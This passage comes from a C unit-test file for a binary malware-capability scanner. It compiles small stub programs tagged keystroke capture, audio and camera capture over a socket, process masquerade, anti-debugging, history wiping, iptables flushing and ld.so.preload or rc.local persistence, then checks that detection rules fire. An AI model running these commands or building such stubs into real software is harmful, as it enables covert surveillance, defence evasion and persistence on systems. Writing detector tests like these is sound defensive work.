		{ "evgrab", "capability.keystroke-capture",
		  "int main(int c,char**v){int f=open(v[c-1],0);connect(socket(2,1,0),0,0);"
		  "return ioctl(f,0x40044590,1);}",
		  PST_SEV_LOW },
		{ "mic", "capability.audio-capture",
		  "int main(void){char b[64];int "
		  "f=open(\"/dev/dsp\",0),s=socket(2,1,0);connect(s,0,0);"
		  "read(f,b,64);return (int)send(s,b,64,0);}",
		  PST_SEV_MEDIUM },
		{ "cam", "capability.camera-capture",
		  "int main(void){return open(\"/dev/video0\",2);}", PST_SEV_LOW },
		{ "netcam", "capability.camera-capture",
		  "int main(void){char b[64];int f=open(\"/dev/video0\",2),s=socket(2,1,0);"
		  "connect(s,0,0);read(f,b,64);return (int)send(s,b,64,0);}",
		  PST_SEV_MEDIUM },
		/* shared libraries (lib*: built -shared) that capture and have
		 * network code serve programs: low */
		{ "libmic", "capability.audio-capture",
		  "int rec(void){char b[64];int "
		  "f=open(\"/dev/dsp\",0),s=socket(2,1,0);connect(s,0,0);"
		  "read(f,b,64);return (int)send(s,b,64,0);}",
		  PST_SEV_LOW },
		{ "libcam", "capability.camera-capture",
		  "int cam(void){char b[64];int f=open(\"/dev/video0\",2),s=socket(2,1,0);"
		  "connect(s,0,0);read(f,b,64);return (int)send(s,b,64,0);}",
		  PST_SEV_LOW },
		{ "screen", "capability.screen-capture",
		  "int main(void){int f=open(\"/dev/fb0\",0);return mmap(0,4096,1,1,f,0)!=0;}",
		  PST_SEV_LOW },
		{ "masq", "capability.process-masquerade",
		  "int main(void){prctl(15,\"[kworker/0:2]\");return 0;}", PST_SEV_MEDIUM },
		{ "selfdel", "capability.self-delete",
		  "int main(void){char b[256];readlink(\"/proc/self/exe\",b,256);unlink(b);"
		  "return connect(socket(2,1,0),0,0);}",
		  PST_SEV_LOW },
		{ "antidbg", "capability.anti-debugging",
		  "int main(void){char b[256];FILE*f=fopen(\"/proc/self/status\",\"r\");"
		  "while(fgets(b,256,f))if(strstr(b,\"TracerPid\"))break;ptrace(0,0,0,0);"
		  "return connect(socket(2,1,0),0,0);}",
		  PST_SEV_LOW },
		{ "wipe", "capability.log-wiping",
		  "int main(void){return system(\"unset HISTFILE; history -c\");}", PST_SEV_HIGH },
		{ "fw", "capability.firewall-tampering",
		  "int main(void){return system(\"iptables -F; iptables -P INPUT ACCEPT\");}",
		  PST_SEV_MEDIUM },
		{ "wdog", "capability.watchdog-disable",
		  "int main(void){int o=1,f=open(\"/dev/watchdog\",1);return "
		  "ioctl(f,0x80045704,&o);}",
		  PST_SEV_LOW },
		{ "preload", "capability.preload-persistence",
		  "int main(void){FILE*f=fopen(\"/etc/ld.so.preload\",\"a\");return "
		  "fputs(\"/lib/x.so\",f);}",
		  PST_SEV_HIGH },
		{ "persist", "capability.persistence-write",
		  "int main(void){connect(socket(2,1,0),0,0);return system(\"echo /tmp/x >> "
		  "/etc/rc.local\");}",
		  PST_SEV_MEDIUM },
		{ "modload", "capability.kernel-module-load",
		  "extern long init_module(void *, unsigned long, const char *);"
		  "int main(void){static char m[64];return (int)init_module(m,64,\"\");}",
		  PST_SEV_LOW },
		{ "desd", "crypto.weak-cipher-network",
		  "const unsigned char s1[16]={14,4,13,1,2,15,11,8,3,10,6,12,5,9,0,7};"
		  "int main(int c,char**v){int s=socket(2,1,0);daemon(0,0);bind(s,0,0);listen(s,5);"
		  "accept(s,0,0);return s1[c];}",
		  PST_SEV_MEDIUM },
	};
	char *d = th_tmpdir();
	struct pst_scan *s;
	size_t i;
	(void)state;
	for (i = 0; i < sizeof(t) / sizeof(t[0]); i++) {
		char src[4200];
		FILE *f;
		snprintf(src, sizeof(src), "%s/%s.c", d, t[i].name);
		f = fopen(src, "w");
		assert_non_null(f);
		fprintf(f,
			"#include <stdio.h>\n#include <stdlib.h>\n#include <string.h>\n#include "
			"<fcntl.h>\n"
			"#include <unistd.h>\n#include <sys/mman.h>\n#include <sys/ioctl.h>\n"
			"#include <sys/prctl.h>\n#include <sys/ptrace.h>\n#include <sys/socket.h>\n"
			"#include <netinet/in.h>\n#include <arpa/inet.h>\n#include "
			"<linux/filter.h>\n%s\n",
			t[i].body);
		fclose(f);
	}
	th_sh("cd %s && mkdir bin && for c in *.c; do case $c in lib*) o='-shared -fPIC';; *) o=;; "
	      "esac; "
	      "gcc -O2 -w $o -o bin/${c%%.c} $c & done; wait; "
	      "test $(ls bin | wc -l) = %zu",
	      d, sizeof(t) / sizeof(t[0]));
	{
		char p[4200];
		snprintf(p, sizeof(p), "%s/bin", d);
		s = th_scan(p, 2);
	}
	for (i = 0; i < sizeof(t) / sizeof(t[0]); i++) {
		char where[64];
		const struct pst_finding *f;
		snprintf(where, sizeof(where), "/%s", t[i].name);
		f = th_finding(s, t[i].rule, where);
		if (!f)
			fail_msg("%s did not fire %s", t[i].name, t[i].rule);
		if (f->severity != t[i].sev)
			fail_msg("%s: %s severity %d, want %d", t[i].name, t[i].rule, f->severity,
				 t[i].sev);
	}
	/* No rule fires where its features are absent: nothing here is a shell. */
	assert_null(th_finding(s, "capability.bind-shell", NULL));
	assert_null(th_finding(s, "capability.reverse-shell", NULL));
	assert_null(th_finding(s, "capability.packet-trigger", NULL));
	assert_null(th_finding(s, "capability.keylogger", NULL));
	pst_scan_free(s);
	th_rmtree(d);
}

/* Debian's openvpn, in shape (bench/accuracy.sh found both on five
 * architectures): a daemon that connects out, runs its hook scripts, writes
 * 128.0.0.0 as a route's mask and keeps a table of OpenSSL and IANA cipher
 * names with the export-grade ones. No c2-endpoint for the mask; linked to
 * OpenSSL 3, which has no export suites, the names are low; the same
 * program with no TLS library of its own stays medium, and a real public
 * address beside the mask is still a c2-endpoint. */
static void test_vpn_lookalike(void **state)
{
	static const char src[] =
		"#include <arpa/inet.h>\n#include <stdlib.h>\n#include <unistd.h>\n#include "
		"<sys/socket.h>\n"
		"#ifdef TLS\n#include <openssl/ssl.h>\n#endif\n"
		"static const char *const names[][2] = {{\"EXP-DES-CBC-SHA\", "
		"\"TLS-RSA-EXPORT-WITH-DES40-CBC-SHA\"},"
		"{\"EXP-RC4-MD5\", \"TLS-RSA-EXPORT-WITH-RC4-40-MD5\"},{\"AES256-SHA\", "
		"\"TLS-RSA-WITH-AES-256-CBC-SHA\"}};\n"
		"int main(int c, char **v) {\n struct in_addr m; int s = socket(2, 1, 0);\n"
		"#ifdef TLS\n SSL_CTX *x = SSL_CTX_new(TLS_method()); if (!x) return 2;\n#endif\n"
		"#ifdef PEER\n inet_pton(2, PEER, &m); connect(s, 0, 0);\n#endif\n"
		" inet_pton(2, \"128.0.0.0\", &m); daemon(0, 0); bind(s, 0, 0); listen(s, 5); "
		"accept(s, 0, 0);\n"
		" connect(socket(2, 1, 0), 0, 0);\n"
		" return system(v[c - 1]) + names[c][0][0] + (int)m.s_addr;\n}\n";
	char *d = th_tmpdir();
	struct pst_scan *s;
	const struct pst_finding *f;
	char path[4200];
	(void)state;
	snprintf(path, sizeof(path), "%s/vpn.c", d);
	th_write(path, src, sizeof(src) - 1);
	th_sh("cd %s && mkdir bin && gcc -O2 -s -w -DTLS -o bin/vpn-ssl vpn.c -lssl -lcrypto && "
	      "gcc -O2 -s -w -o bin/vpn-plain vpn.c && "
	      "gcc -O2 -s -w -DPEER='\"45.9.148.3\"' -o bin/vpn-peer vpn.c", d);
	snprintf(path, sizeof(path), "%s/bin", d);
	s = th_scan(path, 2);
	assert_null(th_finding(s, "capability.c2-endpoint", "/vpn-ssl"));
	assert_null(th_finding(s, "capability.c2-endpoint", "/vpn-plain"));
	f = th_finding(s, "capability.c2-endpoint", "/vpn-peer");
	assert_non_null(f);
	f = th_finding(s, "crypto.weak-cipher-network", "/vpn-ssl");
	assert_non_null(f);
	assert_int_equal(f->severity, PST_SEV_LOW);
	assert_non_null(strstr(f->message, "libssl.so.3"));
	f = th_finding(s, "crypto.weak-cipher-network", "/vpn-plain");
	assert_non_null(f);
	assert_int_equal(f->severity, PST_SEV_MEDIUM);
	pst_scan_free(s);
	th_rmtree(d);
}

/* Truncated and bit-flipped binaries: the reader stays inside the file. */
static void test_elf_mangled(void **state)
{
	char path[4200];
	uint8_t *p, *q;
	size_t len, i, cut;
	(void)state;
	snprintf(path, sizeof(path), "%s/armel-dynamic/revshell", impl_dir);
	p = th_read(path, &len);
	q = malloc(len);
	assert_non_null(q);
	for (cut = 0; cut < len; cut += len / 97 + 1) {
		struct pst_elf e;
		memcpy(q, p, cut);
		if (pst_elf_parse(pst_view_make(q, cut), &e))
			pst_elf_free(&e);
	}
	for (i = 0; i < 400; i++) {
		struct pst_elf e;
		struct pst_sysres r;
		memcpy(q, p, len);
		q[(i * 7919u + 13u) % len] ^= (uint8_t)(1u << (i % 8));
		q[(i * 104729u + 101u) % 64] ^= 0xff;
		q[(i * 31u) % len] = 0xff;
		if (pst_elf_parse(pst_view_make(q, len), &e)) {
			if (pst_syscalls_recover(&e, &r))
				pst_sysres_free(&r);
			pst_elf_free(&e);
		}
	}
	free(q);
	free(p);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_syscall_tables),
		cmocka_unit_test(test_syscall_tiny),
		cmocka_unit_test(test_elf_big_endian_ppc),
		cmocka_unit_test(test_endpoints),
		cmocka_unit_test(test_elf_reader),
		cmocka_unit_test(test_syscall_recovery),
		cmocka_unit_test(test_implants_flagged),
		cmocka_unit_test(test_clean_pass),
		cmocka_unit_test(test_kernel_module),
		cmocka_unit_test(test_hardening),
		cmocka_unit_test(test_crypto),
		cmocka_unit_test(test_each_rule),
		cmocka_unit_test(test_vpn_lookalike),
		cmocka_unit_test(test_large_program_softened),
		cmocka_unit_test(test_keylogger_host_only),
		cmocka_unit_test(test_user_rules),
		cmocka_unit_test(test_elf_mangled),
	};
	return cmocka_run_group_tests(tests, build_implants, remove_implants);
}
